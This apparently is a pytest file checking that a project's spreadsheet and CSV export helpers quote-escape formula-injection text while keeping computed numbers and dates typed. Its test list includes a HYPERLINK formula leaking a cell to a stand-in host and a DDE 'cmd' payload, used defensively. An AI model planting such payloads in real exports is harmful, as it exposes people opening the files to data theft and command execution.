"""Spreadsheet cells: outside text never opens as a formula, jimu's own numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

import core.cells
from core.cells import append_safe_row, safe_cell, safe_row, set_text_cell, unquote_cell

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A3,"詳細")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_public_surface_is_sorted() -> None:
    assert core.cells.__all__ == sorted(core.cells.__all__)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_trigger_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["山田 太郎", "R2026-000001", "a=b", "1-2", "", "'quoted"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12.25, True, None, datetime(2026, 4, 1, 9, 30)])
def test_values_jimu_computed_stay_what_they_are(value: object) -> None:
    assert safe_cell(value) is value  # type: ignore[arg-type]


def test_a_control_character_no_workbook_can_hold_is_replaced_not_a_crash() -> None:
    assert safe_cell("scan\x01.pdf") == "scan\ufffd.pdf"
    assert safe_cell("\x07=1") == "\ufffd=1"


def test_workbook_cells_are_text_after_saving_and_loading(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_safe_row(sheet, ["ファイル", "件数", "日時"])
    for text in HOSTILE:
        append_safe_row(sheet, [text, -7, datetime(2026, 4, 1, 9, 30)])
    set_text_cell(sheet.cell(row=1, column=5), "=SUM(B2:B9)")
    set_text_cell(sheet.cell(row=1, column=6), "#N/A")
    path = tmp_path / "cells.xlsx"
    book.save(path)

    assert "<f>" not in _sheet_xml(path)
    loaded = load_workbook(path).active
    assert loaded is not None
    for row, text in enumerate(HOSTILE, start=2):
        cell = loaded.cell(row=row, column=1)
        assert cell.data_type == "s"
        assert cell.value == "'" + text
        count = loaded.cell(row=row, column=2)  # a number jimu counted is still a number
        assert count.data_type == "n" and count.value == -7
        assert loaded.cell(row=row, column=3).value == datetime(2026, 4, 1, 9, 30)
    assert loaded.cell(row=1, column=5).data_type == "s"
    assert loaded.cell(row=1, column=6).value == "#N/A"
    assert loaded.cell(row=1, column=6).data_type == "s"  # text, not an error value


def test_csv_cells_start_with_a_quote() -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(safe_row(["=1+1", "@SUM(A1)", -2, "ok"]))
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["'=1+1", "'@SUM(A1)", "-2", "ok"]


@pytest.mark.parametrize(
    ("written", "meant"),
    [("'=1+1", "=1+1"), ("'-3", "-3"), ("'＋81", "＋81"), ("'quoted'", "'quoted'"), ("'", "'"),
     ("plain", "plain")],
)
def test_a_neutralised_cell_reads_back_as_what_was_meant(written: str, meant: str) -> None:
    assert unquote_cell(written) == meant
    assert unquote_cell(str(safe_cell(meant))) == meant
